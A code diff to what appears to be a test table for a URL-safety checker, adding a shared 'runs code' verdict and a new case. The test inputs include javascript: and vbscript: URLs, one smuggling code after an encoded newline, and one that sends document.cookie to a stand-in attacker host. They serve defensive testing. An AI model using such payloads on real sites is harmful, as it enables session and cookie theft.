@@ -36,6 +36,7 @@ const isUsername = (username: string, host: string) => [
 const agree = (host: string, what: string) => [
   `plain: Programs agree. All 10 connect to \`${host}\`, ${what}.`,
 ];
+const runsCode = ['bad: Runs code when followed. Do not open it unless you wrote it.'];
 const publicName = 'a public name (where it points was not looked up)';
 
 const table: Readonly<Record<string, readonly string[]>> = {
@@ -61,9 +62,10 @@ const table: Readonly<Record<string, readonly string[]>> = {
   'https://www.paypa1.com/': looksLike('paypal.com', 'www.paypa1.com'),
   'https://google.org/': agree('google.org', publicName),
   // URLs that are programs, and others that lead to no host.
-  'javascript:alert(1)': ['bad: Runs code when followed.'],
-  'JavaScript://example.org/%0Aalert(1)': ['bad: Runs code when followed.'],
-  'vbscript:x': ['bad: Runs code when followed.'],
+  'javascript:alert(1)': runsCode,
+  'JavaScript://example.org/%0Aalert(1)': runsCode,
+  'vbscript:x': runsCode,
+  "javascript:fetch('https://evil.example/'+document.cookie)": runsCode,
   'data:,x': ['plain: This parses. No program connects to a host for it.'],
   'mailto:ann@example.org': ['plain: This parses. No program connects to a host for it.'],
   // Only an address that was checked is good.
